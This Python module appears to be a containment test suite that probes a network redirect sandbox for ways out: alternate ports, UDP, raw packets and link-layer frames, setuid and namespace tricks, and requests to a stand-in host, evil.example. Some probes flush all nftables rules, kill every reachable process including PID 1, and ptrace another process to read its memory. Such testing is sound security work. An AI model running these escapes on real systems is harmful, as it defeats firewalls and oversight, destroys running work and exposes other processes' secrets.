"""Ways round the redirect: other ports, other protocols, raw frames, marks."""
import ctypes
import os
import socket
import struct
import subprocess
import time

from say import SILENCE, attempt, connect, stopped, through

LIBC = ctypes.CDLL(None, use_errno=True)


def tcp(address, *ports):
    """Connects and says something on each port."""
    for port in ports:
        try:
            with connect(address, port) as stream:
                stream.sendall(b"GET /tcp HTTP/1.1\r\nhost: evil.example\r\n\r\n")
                # Whoever takes this for the begin of something else need not wait for the rest.
                stream.shutdown(socket.SHUT_WR)
                answer = stream.recv(100)
            through(f"{port} {answer[:20]!r}") if b"welcome" in answer or b"200" in answer else stopped(f"{port} {answer!r}")
        except OSError as error:
            stopped(f"{port} {error}")


def udp(address, port, text, size="0"):
    """One datagram."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        payload = text.encode() + b"x" * int(size)
        attempt("udp", s.sendto, payload, (address, int(port)))


def udp_lite(address, text):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136) as s:
        attempt("udp-lite", s.sendto, text.encode(), (address, 443))


def ping(address, text):
    """An echo request from a socket that needs no right."""
    family, protocol, kind = (socket.AF_INET6, 58, 128) if ":" in address else (socket.AF_INET, 1, 8)

    def send():
        with socket.socket(family, socket.SOCK_DGRAM, protocol) as s:
            s.sendto(struct.pack("!BBHHH", kind, 0, 0, 1, 1) + text.encode(), (address, 0))

    attempt("ping", send)


def raw(address, text):
    """A raw IP packet, which needs CAP_NET_RAW."""

    def send():
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, 253) as s:
            s.sendto(text.encode(), (address, 0))

    attempt("raw", send)


def frame(address, text):
    """A frame past the whole IP layer: no hook for output sees it."""

    def send():
        with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800)) as s:
            payload = text.encode()
            udp_header = struct.pack("!HHHH", 4444, 443, 8 + len(payload), 0)
            length = 20 + len(udp_header) + len(payload)
            header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, length, 0, 0, 64, 17, 0,
                                 socket.inet_aton("10.77.0.2"), socket.inet_aton(address))
            total = sum(struct.unpack("!10H", header))
            total = (total & 0xFFFF) + (total >> 16)
            header = header[:10] + struct.pack("!H", ~total & 0xFFFF) + header[12:]
            # The broadcast address: every interface takes it.
            s.sendto(header + udp_header + payload, ("eth0", 0x0800, 0, 0, b"\xff" * 6))

    attempt("frame", send)


def fast_open(address, text):
    """Data in the first packet."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.settimeout(SILENCE)
        attempt("fast open", s.sendto, text.encode(), 0x20000000, (address, 8443))


def options(address):
    """A TCP connection with IP options (record route)."""

    def dial():
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
            s.settimeout(SILENCE)
            s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, bytes([7, 7, 4, 0, 0, 0, 0, 0]))
            s.connect((address, 8443))

    attempt("options", dial)


def mark(address, number):
    """A socket that carries a mark."""

    def dial():
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
            s.settimeout(1)
            s.setsockopt(socket.SOL_SOCKET, 36, int(number, 16))
            s.connect((address, 8443))

    attempt("mark", dial)


def become(user, address):
    """Becomes the proxy's user and connects."""
    attempt("setuid", os.setresuid, int(user), int(user), int(user))
    if os.getuid() == int(user):
        tcp(address, 443)


def set_user_file(source, target, user, address):
    """Makes a setuid file of the proxy's user out of an interpreter, and uses it."""
    import shutil

    shutil.copy(source, target)
    if attempt("chown", os.chown, target, int(user), -1):
        os.chmod(target, 0o4755)
        use_file(target, address)
    os.remove(target)


def use_file(interpreter, address):
    """Runs the program of an image that carries a setuid bit."""
    code = f"import os,sys; sys.path.insert(0,{os.path.dirname(os.path.abspath(__file__))!r}); print('euid', os.geteuid()); import packets; packets.tcp({address!r}, 443)"
    subprocess.run([interpreter, "-c", code], check=False)


def namespace(address):
    """A user namespace in which this process is the proxy's user."""
    if attempt("unshare", subprocess.check_call, ["unshare", "-U", "--map-user=1337", "true"]) is None:
        return
    here = os.path.dirname(os.path.abspath(__file__))
    subprocess.run(["unshare", "-U", "--map-user=1337", "python3", here, "packets.tcp", address, "443"], check=False)


def flush_rules(address):
    """Takes the rules away."""
    done = subprocess.run(["nft", "flush", "ruleset"], capture_output=True, text=True, check=False)
    through("flushed") if done.returncode == 0 else stopped(done.stderr.strip()[:200])
    tcp(address, 8443)


def hold(address, port):
    """Opens a connection and says something again and again until it is cut."""
    turn = 0
    try:
        with connect(address, port) as stream:
            while True:
                stream.sendall(b"GET /hold HTTP/1.1\r\nhost: evil.example\r\n\r\n")
                if not stream.recv(1000):
                    return stopped(f"closed after {turn}")
                if turn == 0:
                    through("held")
                    # What is cut without a word is silent from now on.
                    stream.settimeout(SILENCE)
                turn += 1
                time.sleep(0.01)
    except OSError as error:
        stopped(f"after {turn}: {error}")


def unix_sockets(own):
    """Abstract sockets live in the network namespace: whose are there?"""
    with socket.socket(socket.AF_UNIX) as s:
        s.bind("\0" + own)
        s.listen()
        with open("/proc/net/unix") as table:
            for line in table:
                if "@" in line:
                    print("abstract", line.split()[-1])


def processes():
    """Every process that can be seen, and what can be read of it."""
    for pid in sorted(int(name) for name in os.listdir("/proc") if name.isdigit()):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                print("sees", pid, file.read().replace(b"\0", b" ").decode(errors="replace"))
        except OSError as error:
            print("sees", pid, error)


def kill_everybody():
    """Kills every process that this one may signal, among them one that shows that this works."""
    import signal

    victim = subprocess.Popen(["sleep", "60"])
    for pid in (int(name) for name in os.listdir("/proc") if name.isdigit()):
        if pid not in (os.getpid(), os.getppid(), 1):
            attempt(f"kill {pid}", os.kill, pid, signal.SIGKILL)
    attempt("kill 1", os.kill, 1, signal.SIGKILL)
    print("victim", signal.Signals(-victim.wait()).name)


def ptrace(pid):
    """Attaches to a process and reads its memory."""
    pid = int(pid)
    result = LIBC.ptrace(16, pid, 0, 0)
    through("ptrace") if result == 0 else stopped(f"ptrace {os.strerror(ctypes.get_errno())}")
    for name in ("mem", "environ", "maps", "fd"):
        path = f"/proc/{pid}/{name}"
        attempt(name, os.listdir if name == "fd" else lambda p: open(p, "rb").read(0) or open(p, "rb"), path)
